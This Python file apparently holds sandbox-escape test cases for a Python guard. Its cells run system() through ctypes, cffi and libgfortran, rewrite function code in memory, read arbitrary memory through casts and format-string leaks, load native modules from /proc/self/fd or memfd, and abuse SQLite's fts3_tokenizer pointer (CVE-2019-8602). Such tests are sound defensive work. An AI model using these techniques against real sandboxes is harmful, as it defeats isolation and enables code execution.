# Native code and memory: ctypes, cffi, libraries of one's own. Whoever has these has the process.
import os, sys, functools
from concurrent.futures import ThreadPoolExecutor
call = lambda function, *arguments, **keywords: ThreadPoolExecutor(1).submit(function, *arguments, **keywords).result()
command = " ".join(touch).encode()

import weakref, unittest
# What the module-level line `_results = weakref.WeakKeyDictionary()` of unittest.signals gives, with another function there.
made_by_import = lambda function: (
    setattr(weakref, "WeakKeyDictionary", function), sys.modules.pop("unittest.signals", None), call_import("unittest.signals"),
    setattr(weakref, "WeakKeyDictionary", real), sys.modules["unittest.signals"]._results)[-1]
real, call_import = weakref.WeakKeyDictionary, vars(sys.modules["builtins"])["__import__"]

# A file of messages, as the C library has them: what is said instead of the name of a signal.
import struct
asked = b"Real-time signal %d\0"
messages = lambda text: struct.pack("<11I", 0x950412de, 0, 1, 28, 36, 0, 0, len(asked) - 1, 44, len(text), 44 + len(asked)) + asked + text + b"\0"

# %% C library
import ctypes
ctypes.CDLL(None).system(command)

# %% C library by a library's thread
import ctypes
call(call(ctypes.CDLL, None).system, command)

# %% C library in an import
import ctypes
library = made_by_import(functools.partial(ctypes.CDLL, None))
made_by_import(functools.partial(made_by_import(functools.partial(getattr, library, "system")), command))

# %% C library in an import under a known function's address — which is written anew in the middle of the judgement, by the collector
# needs: numpy
import ctypes, gc, glob, io, itertools, numpy
path = glob.glob(os.path.dirname(numpy.__file__) + ".libs/libscipy_openblas*")[0]
known = made_by_import(functools.partial(getattr, made_by_import(functools.partial(ctypes.CDLL, path)), "scipy_openblas_get_num_threads64_"))
system = bytes(memoryview(made_by_import(functools.partial(getattr, made_by_import(functools.partial(ctypes.CDLL, None)), "system"))))
own = bytes(memoryview(known))
known.argtypes = [ctypes.c_void_p]
address = id(command) + bytes.__basicsize__ - 1
io.BytesIO(system).readinto(known)
try:
    made_by_import(functools.partial(known, address))
except PermissionError:
    weakref.WeakKeyDictionary = real
gc.callbacks.append(lambda *unused: io.BytesIO(system).readinto(known))
for count in range(1000):
    gc.set_threshold(0)
    gc.collect()
    io.BytesIO(own).readinto(known)
    gc.set_threshold(1000, 1000, 1000)
    calls = itertools.chain(map(list, itertools.repeat((), count)), map(known, [address]))
    try:
        made_by_import(functools.partial(list, calls))
    except PermissionError:
        weakref.WeakKeyDictionary = real
gc.callbacks.clear()
gc.set_threshold(700, 10, 10)

# %% Python's own interface — ctypes.pythonapi
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b"import os; os.system(%r)" % command)

# %% function by its address
import ctypes, _ctypes
address = _ctypes.dlsym(ctypes.CDLL(None)._handle, "system")
ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(address)(command)

# %% raw call — _ctypes.call_function
import ctypes, _ctypes
_ctypes.call_function(_ctypes.dlsym(ctypes.CDLL(None)._handle, "system"), (command,))

# %% raw loader — _ctypes.dlopen
import ctypes, _ctypes
_ctypes.call_function(_ctypes.dlsym(_ctypes.dlopen(None, 2), "system"), (command,))

# %% memory by its address — from_address
import ctypes
text = "ESCA" + "PED"
print(bytes((ctypes.c_char * 64).from_address(id(text))))

# %% memory as a string — string_at
import ctypes
text = "ESCA" + "PED"
print(ctypes.string_at(id(text), 64))

# %% memory by the clock of a thread — a thread's number is an address, and the clock's is made of what lies there
import time
text = "ESCA" + "PED"
found = time.pthread_getcpuclockid(id(text) + "".__sizeof__() - 1 - 720)  # where glibc has the number of the system
print("ESCAPED" if (~(found >> 3) ^ int.from_bytes(b"ESCA", "little")) & 0x1fffffff == 0 else "")

# %% memory by the clock of a thread by a library's thread
import time
text = "ESCA" + "PED"
print("ESCAPED", call(time.pthread_getcpuclockid, id(text) + "".__sizeof__() - 1 - 720))

# %% memory moved
import ctypes
text, space = "ESCA" + "PED", bytes(64)
ctypes.memmove(id(space) + 32, id(text), 64)
print(space)

# %% memory by a cast
import ctypes
text = "ESCA" + "PED"
print(ctypes.cast(id(text), ctypes.POINTER(ctypes.c_char * 64)).contents.raw)

# %% memory as C text — a c_char_p takes a number
import ctypes
text = "ESCA" + "PED"
print(ctypes.c_char_p(id(text) + "".__sizeof__() - 1).value)

# %% memory as C text set later
# by: an empty text is none of ctypes' then
import ctypes
text = "ESCA" + "PED"
pointer = ctypes.c_char_p(b"")
pointer.value = id(text) + "".__sizeof__() - 1
print(pointer.value)

# %% memory as C text in an import
import ctypes
text = "ESCA" + "PED"
print(made_by_import(functools.partial(ctypes.c_char_p, id(text) + "".__sizeof__() - 1)).value)

# %% object by its address — a py_object's memory is a buffer that can be written
import ctypes
text = "ESCA" + "PED"
holder = ctypes.py_object(1)
memoryview(holder).cast("B")[:] = id(text).to_bytes(8, "little")
print(holder.value)

# %% text by its address — so is that of a c_char_p
# by: a text is none of ctypes' then
import ctypes
text = "ESCA" + "PED"
holder = ctypes.c_char_p(b"x")
memoryview(holder).cast("B")[:] = (id(text) + "".__sizeof__() - 1).to_bytes(8, "little")
print(holder.value)

# %% memory as C text by a buffer that lies — what kind of object it is, its class says in Python
# python: 3.12
import ctypes
text, view = "ESCA" + "PED", memoryview(ctypes.c_int(1))
Sly = type("Sly", (ctypes.c_char_p,), {"__buffer__": lambda self, flags: view})
print(Sly(id(text) + "".__sizeof__() - 1).value)

# %% memory as C text by another class — a library's thread changes the class of a number
import ctypes
text = "ESCA" + "PED"
number = ctypes.c_void_p(id(text) + "".__sizeof__() - 1)
call(setattr, number, "__class__", ctypes.c_char_p)
print(number.value)

# %% memory by the field of a structure — it takes any object of ctypes for one
import ctypes
text = "ESCA" + "PED"
Sly = type("Sly", (ctypes.Structure,), {"_fields_": [("text", ctypes.c_char_p)]})
print(Sly.text.__get__(ctypes.c_void_p(id(text) + "".__sizeof__() - 1)))

# %% memory beyond the end by a field — written as well
import ctypes
Sly = type("Sly", (ctypes.Structure,), {"_fields_": [("space", ctypes.c_char * 64), ("number", ctypes.c_long)]})
print("ESCAPED", Sly.number.__get__(ctypes.c_long(1)))

# %% reference count in an import — an object is freed while it is in use
import _ctypes
thing = bytearray(100)
made_by_import(functools.partial(_ctypes.Py_INCREF, thing))
print("ESCAPED")

# %% library that is none is closed — its number is an address, and what lies there is written to, or called
import _ctypes
thing = b"A" * 4000
_ctypes.dlclose(id(thing) + b"".__sizeof__() - 1)
print("ESCAPED")

# %% library by a forged file name — code of one library's file is compiled as that of another, which may use ctypes
import sched, ctypes
external, bootstrap = sys.modules["_frozen_importlib_external"], sys.modules["_frozen_importlib"]
loader, space = external.SourceFileLoader("sched", sched.__file__), dict(vars(sched))
code = loader.source_to_code(loader.get_data(sched.__file__), "/x/site-packages/threadpoolctl.py")
bootstrap._call_with_frames_removed(vars(sys.modules["builtins"])["exec"], code, space)
plan = space["scheduler"]()
plan.enter(0, 0, ctypes.CDLL, (None,))
plan.run()
print("ESCAPED")

# %% library by a file name that was forged later — importlib's own function renames what runs already
import sched, ctypes, _imp
_imp._fix_co_filename(call(getattr, sched.scheduler.run, "__code__"), "/x/site-packages/threadpoolctl.py")
plan = sched.scheduler()
plan.enter(0, 0, ctypes.CDLL, (None,))
plan.run()
print("ESCAPED")

# %% memory by a pointer's index — beyond its end
import ctypes
one = ctypes.c_long(1)
pointer = ctypes.POINTER(ctypes.c_long)(one)
print("ESCAPED", pointer[1])

# %% memory by a pointer made in an import
import ctypes
kind = made_by_import(functools.partial(ctypes.POINTER, ctypes.c_long))
print("ESCAPED", made_by_import(functools.partial(kind, ctypes.c_long(1)))[1])

# %% memory by a union — a number read as a pointer
import ctypes
Sly = type("Sly", (ctypes.Union,), {"_fields_": [("number", ctypes.c_size_t), ("text", ctypes.c_char_p)]})
text = "ESCA" + "PED"
print(Sly(id(text) + "".__sizeof__() - 1).text)

# %% memory by a union in an import
import ctypes
Sly = type("Sly", (ctypes.Union,), {"_fields_": [("number", ctypes.c_size_t), ("text", ctypes.c_char_p)]})
text = "ESCA" + "PED"
print(made_by_import(functools.partial(Sly, id(text) + "".__sizeof__() - 1)).text)

# %% memory by an array in an import — of C texts that take numbers
import ctypes
text = "ESCA" + "PED"
print(made_by_import(functools.partial(ctypes.c_char_p * 1, id(text) + "".__sizeof__() - 1))[0])

# %% memory by a library of a package in an import — libgfortran beside numpy runs commands
# needs: numpy
import numpy, glob, ctypes
name = glob.glob(os.path.dirname(numpy.__file__) + "/../numpy.libs/libgfortran*.so*")[0]
library = made_by_import(functools.partial(ctypes.CDLL, name))
function = made_by_import(functools.partial(getattr, library, "_gfortran_system_sub"))
made_by_import(functools.partial(function, command, None, len(command)))

# %% memory mapped over what is there — at the address 0, where root may, and from there over the program
import mmap
try:
    print("ESCAPED", mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x10))
except PermissionError as error:
    print("ESCAPED, if it were root's" if error.errno == 1 else error)

# %% memory taken from the machine — a page that is called broken; here none, because it would be
import mmap
try:
    print("ESCAPED", mmap.mmap(-1, 4096).madvise(mmap.MADV_HWPOISON, 0, 0))
except OSError as error:
    print("ESCAPED, if this Linux knew it" if error.errno in (1, 22) else error)

# %% memory by a text for a terminal — where it has a place for a text, a number is taken for an address of 31 bits
# ncurses: 6.4
import curses, mmap
space = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
space[:9] = b"ESCA" + b"PED\0\0"
address = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if len(line.split("-")[0]) == 8][0]
curses.setupterm("xterm", 1)
print([curses.tparm(b"%p1%s", address), curses.tparm(b"%p1%:-9s", address)])

# %% memory by messages of the C library — a text that a number is filled into and that asks for more, from a folder of one's own
import locale, signal
os.makedirs("xx/LC_MESSAGES", exist_ok=True)
open("xx/LC_MESSAGES/libc.mo", "wb").write(messages(b"%p %p"))
os.environ["LANGUAGE"] = "xx"
locale.setlocale(locale.LC_ALL, "C.UTF-8")
locale.bindtextdomain("libc", os.getcwd())
print("ESCAPED" if "0x" in signal.strsignal(50) else "")

# %% memory by messages of the C library above a root — a language is the name of a folder
import locale, signal
os.makedirs("LC_MESSAGES", exist_ok=True)
open("LC_MESSAGES/libc.mo", "wb").write(messages(b"%p %p"))
os.environ["LANGUAGE"] = os.path.basename(os.getcwd())
locale.setlocale(locale.LC_ALL, "C.UTF-8")
locale.bindtextdomain("libc", os.path.dirname(os.getcwd()))
print("ESCAPED" if "0x" in signal.strsignal(50) else "")

# %% memory by messages of the C library in a language that is a path
import locale, signal
os.makedirs("LC_MESSAGES", exist_ok=True)
open("LC_MESSAGES/libc.mo", "wb").write(messages(b"%p %p"))
os.environ["LANGUAGE"] = "../" * 9 + os.getcwd()
locale.setlocale(locale.LC_ALL, "C.UTF-8")
print("ESCAPED" if "0x" in signal.strsignal(50) else "")

# %% memory by the argument of a request — a number is taken for an address; here of memory that has one of 31 bits
import fcntl, mmap
space = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
address = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if len(line.split("-")[0]) == 8][0]
reader, writer = os.pipe()
os.write(writer, b"x" * 65)
fcntl.ioctl(reader, 0x541b, address)
print("ESCAPED" if b"A" in space[:] else "")

# %% memory by the argument of a command — an object that is memory at first and a number then
# python: 3.12
import fcntl, mmap
space = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
address = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if len(line.split("-")[0]) == 8][0]
space[0] = 1
Sly = type("Sly", (), {"__buffer__": lambda self, flags: 1 / 0, "__index__": lambda self: address})
file = open("mine", "w+")
print("ESCAPED" if fcntl.fcntl(file, fcntl.F_GETLK, Sly()) == 0 and space[0] == 2 else "")

# %% memory by the filter of a socket — its address is in the value, and it comes back beyond the end of what takes it
import asyncio.base_events, struct
one, two = asyncio.base_events.socket.socketpair()
program = struct.pack("HBBI", 6, 0, 0, 7)
one.setsockopt(1, 26, struct.pack("HxxxxxxQ", 1, id(program) + b"".__sizeof__() - 1))
print("ESCAPED" if one.getsockopt(1, 26, 1) else "")

# %% memory by the filter of a socket by an object — what is a number when it is asked
import asyncio.base_events, struct
one, two = asyncio.base_events.socket.socketpair()
program = struct.pack("HBBI", 6, 0, 0, 7)
Sly = type("Sly", (), {"__index__": lambda self: 26})
call(one.setsockopt, 1, Sly(), struct.pack("HxxxxxxQ", 1, id(program) + b"".__sizeof__() - 1))
print("ESCAPED")

# %% numpy's own ctypes — a pointer to the memory of an array
# needs: numpy
import numpy
pointer = numpy.zeros(4).ctypes.data_as(numpy.ctypeslib.ctypes.POINTER(numpy.ctypeslib.ctypes.c_long))
print("ESCAPED", pointer[100])

# %% cffi library
# needs: cffi
import cffi
ffi = cffi.FFI()
ffi.cdef("int system(const char *);")
ffi.dlopen(None).system(command)

# %% cffi memory by a cast
# needs: cffi
import cffi
text = "ESCA" + "PED"
print(cffi.FFI().buffer(cffi.FFI().cast("char *", id(text)), 64)[:])

# %% cffi memory beyond the end — pointer arithmetic
# needs: cffi
import cffi
pointer = cffi.FFI().new("long[4]") + 100
print("ESCAPED", pointer[0])

# %% cffi memory in an import
# needs: cffi
import cffi
text = "ESCA" + "PED"
ffi = cffi.FFI()
pointer = made_by_import(functools.partial(ffi.cast, "char *", id(text)))
print(ffi.unpack(pointer, 64))

# %% cffi library in an import — what it opens there is called at any time
# needs: cffi
import _cffi_backend as backend
text = backend.new_pointer_type(backend.new_primitive_type("char"))
library = made_by_import(functools.partial(backend.load_library, None))
function = library.load_function(backend.new_function_type((text,), backend.new_primitive_type("int"), False), "system")
function(backend.newp(backend.new_array_type(text, None), command + b"\0"))

# %% cffi callback — a function with an address
# needs: cffi
import cffi
ffi = cffi.FFI()
pointer = ffi.cast("void *", ffi.callback("int(int)", lambda number: number))
print("ESCAPED", pointer)

# %% native module in the root
import shutil, sysconfig, glob
name = sorted(glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_queue*.so") + glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_asyncio*.so"))[0]
shutil.copyfile(name, os.path.basename(name))
sys.path.insert(0, os.getcwd())
sys.modules.pop(os.path.basename(name).split(".")[0], None)
call_import(os.path.basename(name).split(".")[0])

# %% native library by an object — its text is asked for after the question
import shutil, sysconfig, glob, _ctypes
name = sorted(glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_queue*.so") + glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_asyncio*.so"))[0]
shutil.copyfile(name, "sly.so")
Sly = type("Sly", (), {"__fspath__": lambda self: os.path.abspath("sly.so")})
made_by_import(functools.partial(_ctypes.dlopen, Sly(), 2))

# %% native library that is no package's — what it does when it is loaded: glibc's libmemusage.so writes a file that a variable names
import sysconfig, glob, ctypes
name = glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_lsprof*.so")[0]
print("ESCAPED", made_by_import(functools.partial(ctypes.CDLL, name)))

# %% native module by a descriptor — /proc/self/fd is not the name of a folder
import shutil, sysconfig, glob
name = sorted(glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_queue*.so") + glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_asyncio*.so"))[0]
shutil.copyfile(name, "sly.so")
path = f"/proc/self/fd/{os.open('sly.so', os.O_RDONLY)}"
external, bootstrap = sys.modules["_frozen_importlib_external"], sys.modules["_frozen_importlib"]
name = os.path.basename(name).split(".")[0]
sys.modules.pop(name, None)
bootstrap._load(bootstrap.ModuleSpec(name, external.ExtensionFileLoader(name, path), origin=path))

# %% native module by the current directory of proc
import shutil, sysconfig, glob
name = sorted(glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_queue*.so") + glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_asyncio*.so"))[0]
shutil.copyfile(name, os.path.basename(name))
sys.path.insert(0, "/proc/self/cwd")
sys.modules.pop(os.path.basename(name).split(".")[0], None)
call_import(os.path.basename(name).split(".")[0])

# %% native module in memory — memfd_create by a library
import sysconfig, glob
name = sorted(glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_queue*.so") + glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_asyncio*.so"))[0]
fd = call(os.memfd_create, "sly")
os.write(fd, open(name, "rb").read())
external, bootstrap = sys.modules["_frozen_importlib_external"], sys.modules["_frozen_importlib"]
name, path = os.path.basename(name).split(".")[0], f"/proc/self/fd/{fd}"
sys.modules.pop(name, None)
bootstrap._load(bootstrap.ModuleSpec(name, external.ExtensionFileLoader(name, path), origin=path))

# %% native library in the root, in an import
import shutil, sysconfig, glob, ctypes
name = sorted(glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_queue*.so") + glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_asyncio*.so"))[0]
shutil.copyfile(name, "sly.so")
made_by_import(functools.partial(ctypes.CDLL, f"/proc/self/fd/{os.open('sly.so', os.O_RDONLY)}"))

# %% native library by a link — the link lies in the root, so it can change between question and answer
import sysconfig, glob
name = sorted(glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_queue*.so") + glob.glob(sysconfig.get_config_var("DESTSHARED") + "/_asyncio*.so"))[0]
os.symlink(name, os.path.basename(name))
sys.path.insert(0, os.getcwd())
sys.modules.pop(os.path.basename(name).split(".")[0], None)
call_import(os.path.basename(name).split(".")[0])
print("ESCAPED")

# %% built-in module under another name — a spec whose name is not the module's; a fresh copy has functions of its own
import _imp
Spec = type("Spec", (), {"name": "posix", "origin": "built-in", "loader": None, "parent": "", "submodule_search_locations": None})
kept = sys.modules.pop("posix")
module = _imp.create_builtin(Spec())
_imp.exec_builtin(module)
sys.modules["posix"] = kept
module.mkfifo(evil)

# %% memory by types that are not guarded yet — the import system hashes a module's name as soon as its types are there
import _imp
def look(name):
    kinds = {kind.__name__: kind for base in object.__subclasses__() if base.__name__ == "_CData" for kind in base.__subclasses__()}
    if kinds and not seen:
        number, letter = (type(kinds["_SimpleCData"])("Sly", (kinds["_SimpleCData"],), {"_type_": code}) for code in "QB")
        pointer = type(kinds["_Pointer"])("Pointer", (kinds["_Pointer"],), {"_type_": letter})
        both = type(kinds["Union"])("Both", (kinds["Union"],), {"_fields_": [("number", number), ("pointer", pointer)]})()
        seen.append(both)
        both.number = id(b"ESCAPED")
        print(bytes(both.pointer[i] for i in range(32, 39)))
    return str.__hash__(name)
seen = []
spec = sys.modules["_frozen_importlib_external"].PathFinder.find_spec("_ctypes")
if sys.version_info < (3, 13):  # later ones do not bear such a name, and make a second copy of the types
    spec.name = type("Name", (str,), {"__hash__": look, "__eq__": str.__eq__})("_ctypes")
module = _imp.create_dynamic(spec)
_imp.exec_dynamic(module)
print("ESCAPED" if not seen and hasattr(module, "Union") else "")

# %% type that is not guarded yet — a key of the module's dict is compared as soon as the type is there
import _imp
def make(key, other):
    found = [kind for kind in object.__subclasses__() if kind.__name__ == "SemLock"]
    print("ESCAPED" if found and found[-1](1, 1, 1, f"/sly-{os.getpid()}", False) else "")
    return False
loader = sys.modules["_frozen_importlib_external"].PathFinder
spec = loader.find_spec("_multiprocessing") or sys.modules["_frozen_importlib"].BuiltinImporter.find_spec("_multiprocessing")
kinds = ("create_builtin", "exec_builtin") if spec.origin == "built-in" else ("create_dynamic", "exec_dynamic")
module = getattr(_imp, kinds[0])(spec)
Key = type("Key", (str,), {"__hash__": lambda self: hash("SemLock"), "__eq__": make})
vars(module)[Key("sly")] = None
try:
    getattr(_imp, kinds[1])(module)
finally:
    if os.path.exists(f"/dev/shm/sem.sly-{os.getpid()}"):
        os.unlink(f"/dev/shm/sem.sly-{os.getpid()}")

# %% finalizer under the name of a type — it runs as soon as the type is there, which is not guarded yet
import _imp
def make(self):
    found = [kind for kind in object.__subclasses__() if kind.__name__ == "SemLock"]
    print("ESCAPED" if found and found[-1](1, 1, 1, f"/sly-{os.getpid()}", False) else "")
loader = sys.modules["_frozen_importlib_external"].PathFinder
spec = loader.find_spec("_multiprocessing") or sys.modules["_frozen_importlib"].BuiltinImporter.find_spec("_multiprocessing")
kinds = ("create_builtin", "exec_builtin") if spec.origin == "built-in" else ("create_dynamic", "exec_dynamic")
module = getattr(_imp, kinds[0])(spec)
vars(module)["SemLock"] = type("Last", (), {"__del__": make})()
try:
    getattr(_imp, kinds[1])(module)
finally:
    if os.path.exists(f"/dev/shm/sem.sly-{os.getpid()}"):
        os.unlink(f"/dev/shm/sem.sly-{os.getpid()}")

# %% test module — _testcapi writes files and runs threads
import _testcapi
print("ESCAPED")

# %% list of libraries — threadpoolctl hands pointers to whatever type it is given
# needs: threadpoolctl
# by: the callback gets names, no pointers
import threadpoolctl, ctypes
Sly = type("Sly", (ctypes.Structure,), {"_fields_": [("number", ctypes.c_size_t)], "dlpi_name": property(lambda self: print("ESCAPED", self.number))})
threadpoolctl._dl_phdr_info = Sly
threadpoolctl.ThreadpoolController()._find_libraries_with_dl_iterate_phdr()

# %% shared memory of the system — a name that other processes see
import multiprocessing.shared_memory
memory = multiprocessing.shared_memory.SharedMemory(f"sly{os.getpid()}", True, 16)
print("ESCAPED")
memory.unlink()

# %% semaphore of the system
import _multiprocessing
_multiprocessing.SemLock(1, 1, 1, f"/sly{os.getpid()}", False)
print("ESCAPED" if os.path.exists(f"/dev/shm/sem.sly{os.getpid()}") else "")
_multiprocessing.sem_unlink(f"/sly{os.getpid()}")

# %% semaphore of another process — whoever knows the name opens it
import _multiprocessing, random
name = f"/sly{random.getrandbits(64)}"
try:
    _multiprocessing.SemLock(1, 1, 2, name, False)
except PermissionError:
    pass
try:
    _multiprocessing.SemLock._rebuild(0, 1, 2, name).acquire()
    print("ESCAPED")
except FileNotFoundError:
    print("ESCAPED, if there were one")
_multiprocessing.sem_unlink(name)

# %% semaphore that keeps its name by a lie — whether it loses it is an object that is asked
import _multiprocessing
Sly = type("Sly", (), {"__bool__": lambda self: False, "__index__": lambda self: 0})
_multiprocessing.SemLock(1, 1, 1, f"/sly{os.getpid()}", Sly())
print("ESCAPED" if os.path.exists(f"/dev/shm/sem.sly{os.getpid()}") else "")
_multiprocessing.sem_unlink(f"/sly{os.getpid()}")

# %% function of SQLite by its address — fts3_tokenizer() takes a pointer, if it comes as a parameter (CVE-2019-8602 and kin)
# effect: guard
import sqlite3
base = sqlite3.connect(":memory:")
base.execute("select fts3_tokenizer('sly', ?)", (b"A" * 8,))
base.execute("create virtual table t using fts3(tokenize=sly)")

# %% function of SQLite by its address, told — the same function tells where another one is
import sqlite3
found = sqlite3.connect(":memory:").execute("select fts3_tokenizer(?)", ("simple",)).fetchone()[0]
print("ESCAPED" if len(found) == 8 else "")

# %% function of SQLite by its address, while the module is loaded — its types are there, and another thread has a turn
import threading, time
sys.setswitchinterval(1e-6)
found, end = [], time.monotonic() + 5
def look():
    while not found and time.monotonic() < end:
        module = sys.modules.get("_sqlite3")
        if hasattr(module, "Connection"):
            try:
                found.extend(module.Connection(":memory:").execute("select fts3_tokenizer(?)", ("simple",)).fetchone())
            except module.OperationalError:
                return
            except PermissionError:
                pass
threads = [threading.Thread(target=look) for unused in range(3)]
[thread.start() for thread in threads]
time.sleep(0.1)
import sqlite3
[thread.join() for thread in threads]
print("ESCAPED" if found else sqlite3.connect(":memory:").execute("select fts3_tokenizer(?)", ("simple",)))

# %% function of SQLite by its address, in a moment of another thread — a connection begins a transaction before it is guarded
# python: 3.12
import sqlite3, threading, time
sys.setswitchinterval(1e-6)
found, end = [], time.monotonic() + 2
base = sqlite3.Connection.__new__(sqlite3.Connection)
def look():
    while not found and time.monotonic() < end:
        try:
            found.extend(base.execute("select fts3_tokenizer(?)", ("simple",)).fetchone())
        except sqlite3.Error:
            pass
thread = threading.Thread(target=look)
thread.start()
kept = []
while thread.is_alive():
    kept[:-9] = []
    kept.append(base := sqlite3.Connection.__new__(sqlite3.Connection))
    base.__init__(":memory:", autocommit=False, check_same_thread=False)
print("ESCAPED" if found else base.execute("select fts3_tokenizer(?)", ("simple",)))

# %% function of SQLite by its address, permitted — a setting of 3.12 lets the pointer stand in the text
# python: 3.12
# effect: guard
import sqlite3
base = sqlite3.connect(":memory:")
base.setconfig(sqlite3.SQLITE_DBCONFIG_ENABLE_FTS3_TOKENIZER, True)
base.execute(f"select fts3_tokenizer('sly', x'{'41' * 8}')")
base.execute("create virtual table t using fts3(tokenize=sly)")
